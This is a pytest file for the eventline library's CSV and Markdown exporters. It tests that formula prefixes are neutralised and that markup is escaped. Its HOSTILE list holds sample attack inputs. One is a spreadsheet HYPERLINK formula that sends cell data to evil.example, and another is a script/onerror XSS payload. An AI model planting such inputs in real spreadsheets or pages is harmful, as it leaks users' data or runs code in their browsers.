"""eventline.export.table: CSV read back by the csv module, Markdown whose table holds."""

from __future__ import annotations

import csv
import datetime as dt
import html
import io
import re
from pathlib import Path

import pytest
from hypothesis import given

import eventline
from eventline import timex
from eventline.export import to_csv, to_markdown
from eventline.export.table import CSV_COLUMNS, markdown_text, spreadsheet_safe
from eventline.model import (
    Event,
    EventStatus,
    ReferenceDate,
    ReferenceSource,
    Span,
    TimeExpression,
    Timeline,
    TimexType,
    Trigger,
)
from tests.sets import club_event, club_timeline
from tests.strategies_events import timelines

ROOT = Path(__file__).resolve().parent.parent
SEED = ROOT / "seeds" / "blinken-china-visit-2024-04.txt"
REFERENCE = ReferenceDate(dt.date(2024, 4, 24), ReferenceSource.GIVEN)
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "'already quoted",
    'comma, semicolon; quote " and newline\nsecond line\r\nthird',
    "| a | b |\n|---|---|",
    "</td><script>alert(1)</script><img src=x onerror=alert(1)>",
    "*bold* _it_ `code` [link](http://x) ![img](http://y) ~~s~~ $x$ \\ &amp; &#60;",
    "# heading\n1. list\n> quote\n- item",
    "nul\x00 escape\x1b[31m C1\x85 sep\u2028\u2029",
]


def when(value: str, text: str = "Monday", kind: TimexType = TimexType.DATE) -> TimeExpression:
    """A time expression for ``value``, placed when it can be."""
    placed = kind in (TimexType.DATE, TimexType.TIME) and not value.endswith("_REF")
    return TimeExpression(
        Span(0, len(text)),
        text,
        kind,
        value,
        grain=timex.grain_of(value) if placed else None,
        interval=timex.interval_of(value) if placed else None,
    )


def event(text: str, value: str = "2024-04-22", event_id: str = "e1") -> Event:
    """An event whose every text field holds ``text``."""
    return Event(
        id=event_id,
        title=text,
        trigger=Trigger(Span(0, 1), text),
        when=when(value, text),
        sentence=text,
        span=Span(0, 1),
        status=EventStatus.PLANNED,
        attribution=text,
        participants=(text, text),
        location=text,
    )


def read_csv(data: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data, newline="")))


def unquote(cell: str) -> str:
    """The documented inverse of spreadsheet_safe: drop one leading quote."""
    return cell[1:] if cell.startswith("'") else cell


def expected_cells(item: Event) -> list[str]:
    """What each CSV column should hold for ``item``, before neutralizing."""
    interval = item.when.interval
    return [
        item.id,
        item.when.value,
        str(item.when.grain or ""),
        interval.start.isoformat() if interval else "",
        interval.end.isoformat() if interval else "",
        str(item.status),
        item.title,
        item.trigger.text,
        item.sentence,
        item.attribution or "",
        "; ".join(item.participants),
        item.location or "",
        str(max(1, len(item.mentions))),
        item.when.freq or "",
    ]


def split_row(line: str) -> list[str]:
    """The cells of a GFM table row: split at pipes that no backslash escapes."""
    assert line.startswith("| ")
    assert line.endswith(" |")
    cells, current, escaped = [], "", False
    for character in line[1:-1]:
        if escaped:
            current += character
            escaped = False
        elif character == "\\":
            current += character
            escaped = True
        elif character == "|":
            cells.append(current)
            current = ""
        else:
            current += character
    cells.append(current)
    return [cell.strip() for cell in cells]


def unescape_markdown(cell: str) -> str:
    """Undo markdown_text's escapes (not its flattening of line breaks)."""
    return html.unescape(re.sub(r"\\(.)", r"\1", cell))


def flattened(text: str) -> str:
    return re.sub("[\x00-\x1f\x7f-\x9f\u2028\u2029]+", " ", text)


@pytest.fixture(scope="module")
def seed() -> Timeline:
    return eventline.extract(SEED.read_text(encoding="utf-8"), "2024-04-24")


# ----------------------------------------------------------------------------- CSV


def test_csv_of_the_seed(seed: Timeline) -> None:
    rows = read_csv(to_csv(seed))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert len(rows) == 1 + len(seed.events) + len(seed.undated)
    assert [row[0] for row in rows[1:]] == [e.id for e in (*seed.events, *seed.undated)]
    first = rows[1]
    assert first[1:6] == ["2023", "year", "2023-01-01T00:00:00", "2024-01-01T00:00:00", "happened"]
    assert rows[-1][3:5] == ["", ""]  # undated: no interval
    assert to_csv(seed).endswith("\r\n")


def test_csv_freq_column_comes_after_the_earlier_ones() -> None:
    earlier = "id value grain start end status title trigger sentence attribution participants"
    earlier += " location mentions"  # the columns before freq, in their places
    assert list(CSV_COLUMNS) == [*earlier.split(), "freq"]


def test_csv_shows_a_sets_freq() -> None:
    header, dated, club = read_csv(to_csv(club_timeline(event("Summit"))))
    row = dict(zip(header, club, strict=True))
    assert (row["id"], row["value"], row["freq"]) == ("club", "P1W", "2X")
    assert (row["start"], row["end"]) == ("", "")
    assert dict(zip(header, dated, strict=True))["freq"] == ""


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_csv_hostile_cells_stay_in_their_field(text: str) -> None:
    timeline = Timeline((event(text),), (), REFERENCE)
    rows = read_csv(to_csv(timeline))
    assert len(rows) == 2
    assert len(rows[1]) == len(CSV_COLUMNS)
    for cell, intended in zip(rows[1], expected_cells(timeline.events[0]), strict=True):
        assert unquote(cell) == intended
        assert not cell.startswith(DANGEROUS_STARTS)


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'x", "''x"),
        ("x=1", "x=1"),
        ("", ""),
        ("2024-04-22", "2024-04-22"),
    ],
)
def test_spreadsheet_safe(cell: str, safe: str) -> None:
    assert spreadsheet_safe(cell) == safe
    assert unquote(spreadsheet_safe(cell)) == cell


@given(timelines)
def test_csv_reads_back_for_any_timeline(timeline: Timeline) -> None:
    data = to_csv(timeline)
    rows = read_csv(data)
    items = (*timeline.events, *timeline.undated)
    assert len(rows) == 1 + len(items)
    for row, item in zip(rows[1:], items, strict=True):
        assert [unquote(cell) for cell in row] == expected_cells(item)
        assert not any(cell.startswith(DANGEROUS_STARTS) for cell in row)
    assert to_csv(timeline) == data


# ----------------------------------------------------------------------------- Markdown


def table_lines(document: str) -> list[str]:
    return [line for line in document.splitlines() if line.startswith("|")]


def test_markdown_of_the_seed(seed: Timeline) -> None:
    document = to_markdown(seed)
    assert document.startswith(
        "# Timeline (reference date 2024-04-24)\n\nThe reference date, 2024-04-24, was given.\n"
    )
    lines = table_lines(document)
    assert lines[0] == "| Date | Grain | Status | Event | Expression | Sentence |"
    assert lines[1] == "| --- | --- | --- | --- | --- | --- |"
    assert len(lines) == 2 + len(seed.events)
    assert split_row(lines[2])[:3] == ["2023", "year", "happened"]
    assert "## Undated events\n\n- **recently** (PAST\\_REF, happened): Treasury" in document
    assert to_markdown(seed) == document


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_markdown_hostile_text_stays_in_its_cell(text: str) -> None:
    timeline = Timeline(
        (event(text),), (event(text, "PAST_REF", "e2"),), ReferenceDate(
            dt.date(2024, 4, 24), ReferenceSource.INFERRED, (text,)
        )
    )  # fmt: skip
    document = to_markdown(timeline)
    assert "<" not in document
    assert "\r" not in document
    lines = table_lines(document)
    assert len(lines) == 3
    cells = split_row(lines[2])
    assert len(cells) == 6
    assert unescape_markdown(cells[3]) == flattened(text).strip()
    items = [line for line in document.splitlines() if line.startswith("- ")]
    assert len(items) == 1
    assert items[0].startswith("- **")
    paragraphs = document.split("\n\n")
    assert paragraphs[1].startswith("The reference date, 2024-04-24, was inferred from the text: ")


def test_markdown_shows_a_sets_freq() -> None:
    document = to_markdown(club_timeline())
    assert document.endswith(
        "## Undated events\n\n- **twice a week** (P1W 2X, ongoing): The club meets\n"
    )
    on_the_table = Timeline((club_event(),), (), REFERENCE)
    row = split_row(table_lines(to_markdown(on_the_table))[2])
    assert row[:3] == ["P1W 2X", "", "ongoing"]
    assert row[4] == "twice a week"


def test_markdown_without_events() -> None:
    document = to_markdown(Timeline((), (), REFERENCE))
    assert document == (
        "# Timeline (reference date 2024-04-24)\n\n"
        "The reference date, 2024-04-24, was given.\n\n"
        "No dated events.\n"
    )


def test_markdown_inferred_without_evidence() -> None:
    reference = ReferenceDate(dt.date(2024, 4, 24), ReferenceSource.INFERRED)
    document = to_markdown(Timeline((), (), reference))
    assert "was inferred from the text.\n" in document


def test_markdown_text_escapes() -> None:
    assert markdown_text("a|b <i> & *x* \\ _y_\nz") == (
        "a\\|b &lt;i&gt; &amp; \\*x\\* \\\\ \\_y\\_ z"
    )


@given(timelines)
def test_markdown_table_holds_for_any_timeline(timeline: Timeline) -> None:
    document = to_markdown(timeline)
    assert "<" not in document
    lines = table_lines(document)
    assert len(lines) == (2 + len(timeline.events) if timeline.events else 0)
    for line, item in zip(lines[2:], timeline.events, strict=True):
        cells = split_row(line)
        assert len(cells) == 6
        assert unescape_markdown(cells[3]) == flattened(item.title).strip()
        assert unescape_markdown(cells[5]) == flattened(item.sentence).strip()
    items = [line for line in document.splitlines() if line.startswith("- ")]
    assert len(items) == len(timeline.undated)
    assert to_markdown(timeline) == document
